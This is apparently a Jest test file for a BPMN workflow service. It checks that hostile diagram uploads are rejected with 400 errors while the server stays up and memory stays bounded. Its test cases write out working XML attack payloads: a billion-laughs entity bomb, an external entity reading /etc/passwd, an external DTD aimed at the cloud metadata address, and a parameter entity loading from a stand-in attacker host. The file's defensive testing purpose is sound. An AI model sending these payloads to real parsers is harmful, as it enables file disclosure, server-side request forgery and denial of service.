import { readFileSync } from 'node:fs';
import { MAX_BPMN_DEPTH, MAX_BPMN_ELEMENTS } from '../../src/engine/process/xml-precheck';
import { ApiHarness, Client, openApiHarness } from '../helpers/api-harness';
import { expectOneVersionServed } from '../helpers/hostile';

/**
 * Hostile BPMN uploads on validate and deploy: each is refused with a 4xx problem naming what
 * was wrong (the issue's code and a message), nothing is stored, memory stays bounded and the
 * server keeps answering. Entities and oversized shapes are refused by the pre-check before any
 * XML parser reads the text (test/unit/process/xml-precheck.test.ts proves the parser is not called).
 */
jest.setTimeout(120_000);

const SAMPLE_XML = readFileSync('processes/sample.bpmn', 'utf8');
const NS = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:minhu="http://minhu.gov.cn/schema/bpmn/1.0"';
const fixture = (name: string) => readFileSync(`test/fixtures/bpmn/${name}`, 'utf8');

/** The sample diagram with `inner` in the extension elements of its start event. */
function withExtension(inner: string): string {
  return changed(SAMPLE_XML, '<bpmn:startEvent id="received" name="工单受理">', `<bpmn:startEvent id="received" name="工单受理"><bpmn:extensionElements>${inner}</bpmn:extensionElements>`);
}

function changed(xml: string, from: string, to: string): string {
  if (!xml.includes(from)) throw new Error(`the diagram has no ${from}`);
  return xml.replace(from, to);
}

const BILLION_LAUGHS = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  '  <!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']>',
  `<bpmn:definitions ${NS} id="d"><bpmn:process id="sample" name="&lol9;" isExecutable="true"/></bpmn:definitions>`,
].join('\n');

const nested = (open: string, close: string, n: number) => `${open.repeat(n)}${close.repeat(n)}`;

interface Case {
  name: string;
  xml: string;
  code: string;
  /** The message must say this. */
  says: RegExp;
  path?: string;
}

const CASES: Case[] = [
  { name: 'unclosed tags', xml: SAMPLE_XML.slice(0, 600), code: 'BPMN_MALFORMED', says: /not a BPMN 2\.0 document/ },
  { name: 'garbage', xml: '\u0001\u0002 garbage }{ <<<>>> &&&', code: 'BPMN_MALFORMED', says: /not a BPMN 2\.0 document/ },
  { name: 'not XML at all', xml: '{"definitions": []}', code: 'BPMN_MALFORMED', says: /not a BPMN 2\.0 document/ },
  { name: 'XML that is not BPMN', xml: '<html><body><p>hello</p></body></html>', code: 'BPMN_MALFORMED', says: /failed to parse document as <bpmn:Definitions>/ },
  { name: 'the wrong root element', xml: `<bpmn:process ${NS} id="sample"/>`, code: 'BPMN_MALFORMED', says: /<bpmn:Definitions>/ },
  { name: 'definitions without a process', xml: `<bpmn:definitions ${NS} id="d"/>`, code: 'BPMN_NO_PROCESS', says: /no process/ },
  { name: 'billion laughs (entities nested 10 levels)', xml: BILLION_LAUGHS, code: 'BPMN_DOCTYPE_REFUSED', says: /DOCTYPE and ENTITY declarations are not allowed/ },
  {
    name: 'an external entity (file)',
    xml: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><bpmn:definitions ${NS} id="d"><bpmn:process id="sample" name="&xxe;"/></bpmn:definitions>`,
    code: 'BPMN_DOCTYPE_REFUSED',
    says: /external/,
  },
  {
    name: 'an external entity (http) and an external DTD',
    xml: `<?xml version="1.0"?><!doctype d SYSTEM "http://169.254.169.254/latest/meta-data/"><bpmn:definitions ${NS} id="d"/>`,
    code: 'BPMN_DOCTYPE_REFUSED',
    says: /DOCTYPE/,
  },
  {
    name: 'a parameter entity',
    xml: `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><bpmn:definitions ${NS} id="d"/>`,
    code: 'BPMN_DOCTYPE_REFUSED',
    says: /parameter entities/,
  },
  {
    name: `${MAX_BPMN_ELEMENTS * 5} elements within the size limit`,
    xml: withExtension('<a/>'.repeat(MAX_BPMN_ELEMENTS * 5)),
    code: 'BPMN_TOO_MANY_ELEMENTS',
    says: new RegExp(`more than ${MAX_BPMN_ELEMENTS} elements .*line \\d+`),
  },
  {
    name: '10,000 nested sub-processes',
    xml: changed(SAMPLE_XML, '</bpmn:startEvent>', `</bpmn:startEvent>${nested('<bpmn:subProcess>', '</bpmn:subProcess>', 10_000)}`),
    code: 'BPMN_TOO_DEEP',
    says: new RegExp(`nested more than ${MAX_BPMN_DEPTH} deep \\(line \\d+\\)`),
  },
  {
    name: '10,000 nested extension elements',
    xml: withExtension(nested('<minhu:x>', '</minhu:x>', 10_000)),
    code: 'BPMN_TOO_DEEP',
    says: /nested more than/,
  },
  { name: 'a script task', xml: fixture('script-task.bpmn'), code: 'SCRIPT_TASK_REFUSED', says: /script tasks are not allowed/, path: 'element:remind' },
  { name: 'a constructor expression', xml: fixture('constructor-expression.bpmn'), code: 'EXPRESSION_NOT_ALLOWED', says: /constructor/, path: 'element:extensionAsked' },
  { name: 'a script condition', xml: fixture('script-condition.bpmn'), code: 'SCRIPT_CONDITION_REFUSED', says: /script conditions/ },
  // issue 12: diagrams whose next step would never end
  { name: 'a multi-instance of 100,000,000', xml: fixture('huge-cardinality.bpmn'), code: 'MULTI_INSTANCE_TOO_LARGE', says: /over the limit of 50/, path: 'element:fanOut' },
  { name: 'a cardinality from the order data', xml: fixture('computed-cardinality.bpmn'), code: 'MULTI_INSTANCE_UNBOUNDED', says: /coUnitCount/, path: 'element:fanOut' },
  { name: 'a standard loop', xml: fixture('standard-loop.bpmn'), code: 'LOOP_REFUSED', says: /standard loops/, path: 'element:spin' },
  { name: 'a cycle with no wait state', xml: fixture('waitless-cycle.bpmn'), code: 'CYCLE_WITHOUT_WAIT', says: /no wait state/, path: 'element:again' },
  { name: 'a waitless cycle in a sub-process', xml: fixture('waitless-subprocess-cycle.bpmn'), code: 'CYCLE_WITHOUT_WAIT', says: /no wait state/, path: 'element:again' },
  { name: 'a cycle whose only wait is a past date', xml: fixture('past-timer-cycle.bpmn'), code: 'CYCLE_WITHOUT_WAIT', says: /no wait state/, path: 'element:waitDue' },
  { name: 'a link event loop', xml: fixture('link-loop.bpmn'), code: 'CYCLE_WITHOUT_WAIT', says: /no wait state/, path: 'element:jump' },
  { name: 'a millisecond timer cycle', xml: fixture('millisecond-timer.bpmn'), code: 'TIMER_TOO_SHORT', says: /more often than once a minute/, path: 'element:handleRepeat' },
  { name: 'a timer cycle without a count', xml: fixture('millisecond-timer.bpmn'), code: 'TIMER_CYCLE_UNBOUNDED', says: /how many times/, path: 'element:handleRepeat' },
  { name: 'a one-second timer', xml: fixture('short-duration.bpmn'), code: 'TIMER_TOO_SHORT', says: /under the minimum of one minute/, path: 'element:handleSoon' },
  { name: 'a signal thrown to its own catch', xml: fixture('signal-loop.bpmn'), code: 'EVENT_THROW_REFUSED', says: /signal throw events/, path: 'element:shout' },
];

let h: ApiHarness;
let admin: Client;
beforeAll(async () => {
  h = await openApiHarness();
  admin = await h.login('sample.admin1');
});
afterAll(async () => {
  await h.close();
});

const expectServing = (): Promise<void> => expectOneVersionServed(h, admin, '/api/processes/sample/versions');

describe.each(['validate', 'versions'])('POST /api/processes/sample/%s', (endpoint) => {
  it.each(CASES)('refuses $name with 400 BPMN_INVALID and $code, and keeps serving', async ({ xml, code, says, path }) => {
    const res = await admin.post(`/api/processes/sample/${endpoint}`, { xml });
    expect(res.status).toBe(400);
    expect(res.type).toBe('application/problem+json');
    expect(res.body.code).toBe('BPMN_INVALID');
    const issue = (res.body.errors as { path: string; code: string; message: string }[]).find((e) => e.code === code);
    expect(issue).toEqual({ path: path ?? expect.stringMatching(/^(xml|element:)/), code, message: expect.stringMatching(says) });
    expect(res.body.detail).toContain(issue!.message.split('\n')[0]);
    expect(JSON.stringify(res.body)).not.toMatch(/root:x:0:0/);
    await expectServing();
  });
});

it('answers an upload over the body limit with 413 BODY_TOO_LARGE and stores nothing', async () => {
  const res = await admin.post('/api/processes/sample/versions', { xml: withExtension('<a/>'.repeat(600_000)) });
  expect(res.status).toBe(413);
  expect(res.body).toMatchObject({ code: 'BODY_TOO_LARGE', detail: expect.stringMatching(/larger than allowed/) });
  await expectServing();
});

it('keeps memory bounded through every hostile upload, repeated', async () => {
  const before = process.memoryUsage().rss;
  for (let round = 0; round < 3; round++) {
    for (const { xml } of CASES) expect((await admin.post('/api/processes/sample/validate', { xml })).status).toBe(400);
  }
  expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  await expectServing();
});

it('still validates a good diagram after all of it', async () => {
  const ok = await admin.post('/api/processes/sample/validate', { xml: SAMPLE_XML });
  expect(ok.status).toBe(200);
  expect(ok.body).toEqual({ valid: true });
});
